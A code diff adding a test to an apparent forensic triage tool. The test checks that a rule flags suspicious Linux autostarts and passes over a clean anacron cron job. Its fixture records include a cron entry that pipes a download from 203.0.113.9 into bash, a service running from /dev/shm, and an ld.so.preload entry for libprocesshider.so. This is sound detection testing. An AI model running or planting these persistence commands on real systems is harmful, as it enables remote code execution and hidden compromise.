@@ -140,6 +140,24 @@ test('magpie triage: outputs in triage/<stamp>/, evidence untouched and still ve
   assert.ok((await verifyEvidence(dir)).changed.some((c) => c.endsWith('findings.json')));
 });
 
+test('Linux autostarts: a download piped to a shell, a unit in /dev/shm, ld.so.preload — and a clean cron job is not flagged', async () => {
+  const { EvidenceWriter } = await import('../lib/evidence/writer.ts');
+  const step = { index: 1, id: 'autoruns', stepId: 'autoruns', description: 'x', kind: 'autorun' as const, timeoutSec: 1, continueOnError: true, admin: false, params: {}, scripts: {}, source: 'test' };
+  const w = EvidenceWriter.create({ root: tempDir(), caseId: 'lx', targetName: 'web-01', transport: 'import', plan: { playbook: { name: 'lx', file: 'lx', sha256: '0'.repeat(64), params: {} }, steps: [step] } });
+  const rec = (entry: string, category: string, launchString: string) => ({ location: '/etc/cron.d/x', entry, category, enabled: true, launchString, imagePath: launchString.split(' ')[0] });
+  const records = [
+    rec('* * * * *', 'Tasks', 'curl -fsSL http://203.0.113.9/x.sh | bash'),
+    rec('kworker.service', 'Services', '/dev/shm/.x/kworker --daemon'),
+    rec('/usr/local/lib/libprocesshider.so', 'Preload', '/usr/local/lib/libprocesshider.so'),
+    rec('25 6 * * *', 'Tasks', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'),
+  ];
+  const stage = writeTree({ 'records.jsonl': records.map((r) => JSON.stringify(r)).join('\n') + '\n' });
+  await w.recordStep(step, { status: 'ok', reason: null, partial: false, os: 'linux', fetched: stage });
+  const dir = await w.finish('complete');
+  const hits = (await triageFolder(dir, { rules })).findings.filter((f) => f.rule.id === 'magpie-linux-autorun-suspicious').map((f) => f.record.entry);
+  assert.equal(hits.sort(), ['* * * * *', '/usr/local/lib/libprocesshider.so', 'kworker.service']);
+});
+
 test('a real Linux process from /tmp whose binary is deleted is caught by the Linux rule', async () => {
   const work = tempDir();
   const bin = join(work, 'kworker-upd');
